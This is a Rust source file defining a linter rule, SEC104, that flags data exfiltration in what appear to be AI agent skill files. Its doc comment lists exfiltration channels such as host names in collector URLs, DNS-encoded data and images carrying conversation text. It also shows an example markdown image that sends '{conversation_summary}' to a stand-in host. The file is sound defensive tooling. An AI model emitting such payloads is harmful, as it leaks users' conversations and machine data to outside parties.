//! SEC104 data-exfiltration.

use skillc_core::Skill;
use skillc_lint::{Findings, Rule, RuleMeta, declare_rule};

use crate::security::report;

declare_rule! {
    /// Reports data of the user or machine that is sent to an unexpected place.
    ///
    /// ## Why
    /// Names of users and hosts in an address that collects requests, whole folders in the body of a request, data in names
    /// that are looked up (DNS), and images whose address carries what was said.
    ///
    /// The file is read with its encodings undone ([security scan](../../security-scan.md)); the finding says what was
    /// hidden.
    ///
    /// ## What is not reported
    /// - facts that are shown or kept on the machine
    /// - hosts of known vendors
    ///
    /// ## Example
    /// ```markdown
    /// ![status](https://img.invalid/p.png?data={conversation_summary})
    /// ```
    /// Remove the image.
    pub(crate) struct DataExfiltration {
        code: "SEC104",
        name: "data-exfiltration",
        severity: Error,
        since: "0.3.0",
        activation: OnRequest,
    }
}

impl Rule for DataExfiltration {
    fn meta(&self) -> &RuleMeta {
        Self::META
    }

    fn check_skill(&self, skill: &Skill, out: &mut Findings<'_>) {
        report(&Self::META.code, skill, out);
    }
}
